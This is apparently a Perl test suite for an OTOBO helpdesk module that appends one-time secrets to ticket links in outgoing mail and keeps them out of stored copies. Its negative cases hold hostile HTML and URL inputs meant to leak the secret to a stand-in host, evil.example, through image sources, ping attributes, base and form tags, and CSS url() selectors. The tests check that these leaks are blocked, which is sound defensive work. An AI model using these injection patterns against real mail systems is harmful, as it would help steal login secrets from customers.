use v5.24;
use strict;
use warnings;
use utf8;

use Digest::SHA qw(sha256_hex);
use FindBin     qw($Bin);
use lib "$Bin/../../../lib";

use Test::More;
use TestOTOBO;

my $PublicURL = 'https://support.example.com/ota';
my $Number    = '2026112210000011';
my $LinkID    = 'AAECAwQFBgcIqrvM3e7xABEi';
my $Safe      = "$PublicURL/t/$Number/$LinkID";

my ( $Arm, @Armed, $Bridge, $OTOBO );

sub Setup {
    my (%Config) = @_;

    @Armed  = ();
    $Arm    = sub { my (%Param) = @_; return $Param{LinkIDs}->[0] };
    $Bridge = TestOTOBO::Fake->new(
        PublicURL => sub { return $PublicURL },
        IsEnabled => sub { return 1 },
        LinkUsed  => sub { return 1 },
        LinkArm   => sub { my ( undef, %Param ) = @_; push @Armed, \%Param; return $Arm->(%Param) },
    );
    $OTOBO = TestOTOBO->new(
        Config  => { HttpType => 'https', FQDN => 'support.example.com', ScriptAlias => 'otobo/', DefaultLanguage => 'en', %Config },
        Objects => { 'Kernel::System::OneTimeAuth' => $Bridge },
    );

    return $OTOBO->Get('Kernel::System::OneTimeAuth::MailSecret');
}

sub Complete {
    my ( $Object, $Body, %Param ) = @_;
    return $Object->LinksComplete( To => 'Jane <jane.doe@customer.example>', Body => $Body, MimeType => 'text/plain', %Param );
}

subtest 'the secret joins a link in plain text that is a word of its own' => sub {
    my $Object = Setup();
    my $Body   = Complete( $Object, "Hi,\n\n$Safe\n\nBye $Safe. (And $Safe)\n> $Safe\n" );
    my ($Secret) = $Body =~ m{\Q$Safe\E(\w+)};
    like( $Secret, qr{\A[0-9A-Za-z]{24}\z}, 'of 24 letters and digits' );
    is( $Body, "Hi,\n\n$Safe$Secret\n\nBye $Safe$Secret. (And $Safe$Secret)\n> $Safe$Secret\n", 'at each place' );
    is_deeply(
        \@Armed,
        [
            {
                TicketNumber => $Number, LinkIDs => [$LinkID], SecretHash => sha256_hex($Secret), Recipients => ['jane.doe@customer.example'],
                Renewal => undef,
            },
        ],
        'one call, with the hash only',
    );
    is( scalar $Bridge->Calls('LinkUsed'), 1, 'the next text gets another link' );

    my $Other = Complete( $Object, $Safe );
    isnt( $Other, "$Safe$Secret", 'another mail, another secret' );

    Complete( $Object, $Safe, OneTimeAuthRenewal => 1 );
    is( $Armed[-1]->{Renewal}, 1, 'the bridge is told which mail the customer asked for' );
};

subtest 'the secret joins a link behind an address or a sign that has an end' => sub {
    for my $Before ( 'See https://otobo.example/ or ', 'See <https://otobo.example/> or ', "\"https://otobo.example/\" or ", "3 < 4: ", "<\n\nhttps://otobo.example/ ", "A 5\" disk\nhttps://otobo.example/ " ) {
        my $Object = Setup();
        like( Complete( $Object, "$Before$Safe" ), qr{\Q$Safe\E\w{24}}, $Before );
    }
};

subtest 'the secret does not join anything else in plain text' => sub {
    for my $Body (
        "https://evil.example/?u=$Safe", "x$Safe", "$Safe/more", "$Safe?x=1", "${Safe}A", "${Safe}abc", "$Safe.html", "\"https://evil.example/?u=<$Safe>\"",
        "<https://evil.example/?u= $Safe>", "<https://evil.example/?u=\n$Safe>", "x\n\"https://evil.example/?u= $Safe\"",
        "$PublicURL/t/$Number/short", "$PublicURL.evil.example/t/$Number/$LinkID", "$PublicURL/t/1x/$LinkID", uc $Safe, 'no link', '', undef,
        )
    {
        my $Object = Setup();
        is( Complete( $Object, $Body ), undef, $Body // 'undef' );
        is( scalar @Armed, 0, 'no call' );
    }
};

subtest 'a secret that somebody quotes is taken out again' => sub {
    my $Object  = Setup();
    my $Secret  = 'kP3xW9aLq0ZtYb7RmN2cVs5D';
    my $Encoded = "https%3A%2F%2Fsupport.example.com%2Fota%2Ft%2F$Number%2F$LinkID";
    my %Case    = (
        "> See $Safe$Secret.\n> $Safe$Secret"                     => "> See $Safe.\n> $Safe",
        qq{<a href="$Safe$Secret">$Safe$Secret</a>}               => qq{<a href="$Safe">$Safe</a>},
        "https://safe.example/?url=$Encoded$Secret&data=1"        => "https://safe.example/?url=$Encoded&data=1",
        "$Encoded$Secret"                                          => $Encoded,
    );
    is( $Object->SecretsRemove( Body => $_ ), $Case{$_}, $_ ) for sort keys %Case;
    is( $Object->SecretsRemove( Body => $_ ), undef, $_ // 'undef' ) for $Safe, "${Safe}x", 'no link', '', undef;
};

subtest 'the secret joins an honest link in HTML' => sub {
    my %Case = (
        qq{<p>ü <a href="$Safe" title="$Safe">$Safe</a>.</p>} => qq{<p>ü <a href="${Safe}S" title="$Safe">${Safe}S</a>.</p>},
        qq{<a target='_blank' href='$Safe.'>$Safe.</a>}       => qq{<a target='_blank' href='${Safe}S.'>${Safe}S.</a>},
        qq{<a href=$Safe>Your <b>ticket</b></a>}              => qq{<a href=${Safe}S>Your <b>ticket</b></a>},
        qq{<A HREF="$Safe"><span> $Safe </span></A>}          => qq{<A HREF="${Safe}S"><span> ${Safe}S </span></A>},
        qq{<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"/><style>a { color: red }</style></head><body><a href="$Safe">x</a></body></html>}
            => qq{<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"/><style>a { color: red }</style></head><body><a href="${Safe}S">x</a></body></html>},
        qq{<img src="https://evil.example/?u=$Safe"> <a href="$Safe">x <img src="https://evil.example/?u=$Safe"></a> $Safe <a href="https://evil.example/">$Safe</a>}
            => qq{<img src="https://evil.example/?u=$Safe"> <a href="${Safe}S">x <img src="https://evil.example/?u=$Safe"></a> $Safe <a href="https://evil.example/">$Safe</a>},
        qq{<a href="$Safe"><a href="https://evil.example/?u= ">$Safe</a></a>} => qq{<a href="${Safe}S"><a href="https://evil.example/?u= ">$Safe</a></a>},
    );

    for my $Given ( sort keys %Case ) {
        my $Object = Setup();
        my $Body   = Complete( $Object, $Given, MimeType => 'text/html' ) // '';
        is( $Body =~ s{(\Q$Safe\E)\w{24}}{$1S}gr, $Case{$Given}, $Given );
    }
};

subtest 'the secret does not join anything else in HTML' => sub {
    my $Honest = qq{<a href="$Safe">$Safe</a>};
    for my $Body (
        qq{<p>$Safe</p>},
        qq{<img src="$Safe">},
        qq{<a href="https://evil.example/?u=$Safe">$Safe</a>},
        qq{<a href=" https://evil.example/?u= $Safe">$Safe</a>},
        qq{<a href="$Safe?u=1">$Safe</a>},
        qq{<a href="$Safe" ping="https://evil.example/">$Safe</a>},
        qq{<a href="$Safe" onclick="x(this.href)">$Safe</a>},
        qq{<a href="https://evil.example/" href="$Safe">$Safe</a>},
        qq{<a href="$Safe" href="https://evil.example/">$Safe</a>},
        qq{<!--> <img src='https://evil.example/?u= --> $Honest '>},
        qq{<!-- $Honest -->},
        qq{<textarea>$Honest</textarea>},
        qq{<base href="https://evil.example/">$Honest},
        qq{<form action="https://evil.example/">$Honest</form>},
        qq{<script>$Honest</script>},
        qq{<svg><style><img src='https://evil.example/?$Honest'></style></svg>},
        qq{<p>x</p><style>a[href*="~a"] { background: url(https://evil.example/a) }</style>$Honest},
        qq{<html><head></head><body><head><style>a { color: red }</style></head>$Honest},
        qq{x<head><style>a { color: red }</style></head>$Honest},
        qq{<img alt="$Honest' src='},
        qq{<img src='https://evil.example/?u= $Honest don't},
        qq{<?php $Honest ?>},
        qq{<![CDATA[ $Honest ]]>},
        )
    {
        my $Object = Setup();
        is( Complete( $Object, $Body, MimeType => 'text/html' ), undef, $Body );
    }
};

subtest 'everybody who gets the mail is told to the bridge' => sub {
    my %Case = (
        'one'            => [ [ 'jane@example.com' ], To => 'Jane <jane@example.com>' ],
        'Cc and Bcc'     => [ [ 'jane@example.com', 'eve@evil.example', 'c@example.com' ], To => 'jane@example.com', Cc => 'eve@evil.example', Bcc => 'c@example.com, jane@example.com' ],
        'no To'          => [ ['jane@example.com'], To => '', Cc => '"Doe, Jane" <jane@example.com>' ],
        'not ASCII'      => [ ['t%C3%ADna@example.com'], To => 'tína@example.com' ],
    );
    for my $Name ( sort keys %Case ) {
        my ( $Expected, %Param ) = $Case{$Name}->@*;
        my $Object = Setup();
        Complete( $Object, $Safe, %Param );
        is_deeply( $Armed[0]->{Recipients}, $Expected, $Name );
    }

    my $Object = Setup();
    is( Complete( $Object, $Safe, To => '' ), undef, 'nobody: no secret' );
    is( scalar @Armed, 0, 'and no call' );
};

subtest 'what the bridge does not arm leaves as a safe link' => sub {
    my $Object = Setup();
    $Arm = sub { return '' };
    is( Complete( $Object, $Safe ), undef, 'burned' );

    $Object = Setup();
    $Arm = sub { die 'broken' };
    is( Complete( $Object, $Safe ), undef, 'a bridge that fails' );

    $Object = Setup();
    my $Second = $Safe =~ s{ABEi\z}{ABEj}r;
    $Arm = sub { my (%Param) = @_; return $Param{LinkIDs}->[1] };
    my $Body = Complete( $Object, "$Safe\n$Second\n$Safe" );
    like( $Body, qr{\A\Q$Safe\E\n\Q$Second\E\w{24}\n\Q$Safe\E\z}, 'only the armed one of two' );
    is_deeply( $Armed[0]->{LinkIDs}, [ $LinkID, 'AAECAwQFBgcIqrvM3e7xABEj' ], 'both were named, in order' );
};

subtest 'links of several tickets are decided one by one, of three at most' => sub {
    my $Object = Setup();
    my $Body   = Complete( $Object, join "\n", map {"$PublicURL/t/$_/$LinkID"} 1 .. 4 );
    is_deeply( [ map { $_->{TicketNumber} } @Armed ], [ 1, 2, 3 ], 'three' );
    my @Secrets = $Body =~ m{\Q$LinkID\E(\w{24})}g;
    is( scalar @Secrets, 3, 'three links are complete' );
    isnt( $Secrets[0], $Secrets[1], 'each with a secret of its own' );
};

# Send() of OTOBO, as far as it matters: it writes into what it gets, and returns what it put into the queue.
sub Send {
    my (%Param) = @_;

    push $Param{CustomHeaders}->{Seen}->@*, 1 if $Param{CustomHeaders};
    my @Attachment = ( $Param{Attachment} // [] )->@*;
    $_->{Content} = "encoded $_->{Content}" for @Attachment;

    my $Communication = TestOTOBO::Fake->new( ObjectLogStop => sub { 1 }, CommunicationStop => sub { 1 } );
    push @main::Communications, $Communication;

    my @Recipient = ( $Param{To}, $OTOBO->{Config}->{SendmailBcc} || () );
    my $Queued    = $Kernel::OM->Get('Kernel::System::MailQueue')->Create(
        ArticleID              => 5,
        Recipient              => \@Recipient,
        Message                => { Header => $Param{'Message-ID'}, Body => join '|', $Param{Body}, map { $_->{Content} } @Attachment },
        CommunicationLogObject => $Communication,
    );
    return { Success => 0, ErrorMessage => 'not queued' } if !$Queued;
    return { Success => 1, Data => { Header => $Param{'Message-ID'}, Body => $Param{Body} } };
}

our ( @Queue, @Communications, $QueueFails );
{
    package Kernel::System::MailQueue;
    sub new { return bless {}, shift }
    sub Create { my ( $Self, %Entry ) = @_; return if $main::QueueFails; push @main::Queue, \%Entry; return 1 }
}

sub Deliver {
    my ( $Object, %Param ) = @_;
    @Queue = @Communications = ();
    return $Object->CompletedSend(
        Send  => \&Send,
        Param => { To => 'jane@example.com', Body => $Safe, %Param },
        Body  => "${Safe}secret",
    );
}

subtest 'what leaves has the secret, what is stored has not' => sub {
    my $Object = Setup();
    my @Given  = ( { Filename => 'a.txt', Content => 'a' } );
    my $Result = Deliver( $Object, Attachment => \@Given );

    is( scalar @Queue, 1, 'one mail' );
    is( $Queue[0]->{Message}->{Body}, "${Safe}secret|encoded a", 'with the secret, and the attachment encoded once' );
    is( $Queue[0]->{ArticleID},       5,                        'of the article' );
    is( $Result->{Success},           1,                        'success' );
    is( $Result->{Data}->{Body},      $Safe,                    'returned is the safe text' );
    is( $Result->{Data}->{Header}, $Queue[0]->{Message}->{Header}, 'with the same message id' );
    like( $Result->{Data}->{Header}, qr{\A<\d+[.]\w{16}\@support[.]example[.]com>\z}, 'which is one' );
    is( $Given[0]->{Content}, 'a', 'the caller\'s attachments are untouched' );
    is( scalar $Communications[0]->Calls('CommunicationStop'), 1, 'the communication that sends nothing is closed' );
    is( scalar $Communications[1]->Calls('CommunicationStop'), 0, 'the other one is not: the queue goes on with it' );
};

subtest 'the HTML that OTOBO attaches once more stays the same as the body' => sub {
    my $Object = Setup();
    Deliver( $Object, Attachment => [ { Filename => 'file-2', Content => $Safe, ContentType => 'text/html' } ] );
    is( $Queue[0]->{Message}->{Body}, "${Safe}secret|encoded ${Safe}secret", 'both complete' );
};

subtest 'SendmailBcc gets the safe link, in a mail of its own' => sub {
    my $Object = Setup( SendmailBcc => 'archive@example.com' );
    my $Result = Deliver($Object);
    is_deeply( [ map { $_->{Recipient} } @Queue ], [ ['archive@example.com'], ['jane@example.com'] ], 'two mails' );
    is( $Queue[0]->{Message}->{Body}, $Safe,            'the archive\'s is safe' );
    is( $Queue[0]->{ArticleID},       undef,            'and no second entry of the article' );
    is( $Queue[1]->{Message}->{Body}, "${Safe}secret",   'the customer\'s is complete' );
    is( $Result->{Data}->{Body},      $Safe,            'stored is the safe text' );

    $Object = Setup( SendmailBcc => 'archive@example.com', 'OneTimeAuth::ArchiveBccIsTrusted' => 1 );
    Deliver($Object);
    is_deeply( [ map { $_->{Recipient} } @Queue ], [ [ 'jane@example.com', 'archive@example.com' ] ], 'one mail for both when it is trusted' );
};

subtest 'a mail is never lost' => sub {
    my $Object = Setup();
    my $Runs   = 0;
    @Queue = ();
    my $Result = $Object->CompletedSend(
        Send  => sub { my (%Param) = @_; die "not this time\n" if !$Runs++; return Send(%Param) },
        Param => { To => 'jane@example.com', Body => $Safe },
        Body  => "${Safe}secret",
    );
    is( $Queue[0]->{Message}->{Body}, $Safe, 'when the text for storing cannot be made, the mail leaves with the safe link' );
    is( $Result->{Success},           1,     'success' );
    like( $OTOBO->LogText(), qr{could not be built}, 'and a log line says so' );

    $Object     = Setup();
    $QueueFails = 1;
    $Result     = Deliver($Object);
    is( $Result->{Success},      0,            'a failure of the queue is returned' );
    is( $Result->{ErrorMessage}, 'not queued', 'as it is' );
    $QueueFails = 0;
    Deliver($Object);
    is( scalar @Queue, 1, 'and the queue works as before afterwards' );
};

done_testing();
